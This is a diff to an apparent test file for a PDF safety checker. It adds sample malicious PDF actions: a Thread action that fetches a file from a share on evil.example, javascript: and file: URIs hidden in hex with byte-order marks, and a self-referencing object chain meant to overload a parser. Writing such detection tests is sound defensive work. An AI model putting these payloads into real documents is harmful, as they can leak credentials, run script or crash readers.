@@ -59,6 +59,15 @@ export const ACTIVE_PDFS: readonly Active[] = [
     what: "a file of another machine",
     bytes: opening("<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>"),
   },
+  {
+    what: "an article of another machine",
+    bytes: clicked("<</S/Thread/F(\\\\\\\\evil.example\\\\a.pdf)/D 0>>"),
+  },
+  {
+    what: "a script as an address behind a mark of UTF-8",
+    bytes: clicked("<</S/URI/URI<EFBBBF6a6176617363726970743a31>>>"),
+  },
+  { what: "a file as an address in letters of two bytes", bytes: clicked("<</S/URI/URI<FFFE660069006c0065003a00>>>") },
   { what: "a file in the file", bytes: clicked("<</S/GoToE/T<</R/C/N(a.pdf)>>>>") },
   {
     what: "a form that sends itself",
@@ -103,6 +112,11 @@ export const CLOSED_PDFS: readonly Active[] = [
         objects: attached("a.exe"),
       }),
     refused: "program-inside",
+  },
+  {
+    what: "many objects of one number that lead to each other",
+    bytes: withObject("/A<</S 9 0 R>>", "9 0 obj 9 0 R ".repeat(20_000)),
+    refused: "damaged",
   },
   {
     what: "packed objects under a lock",
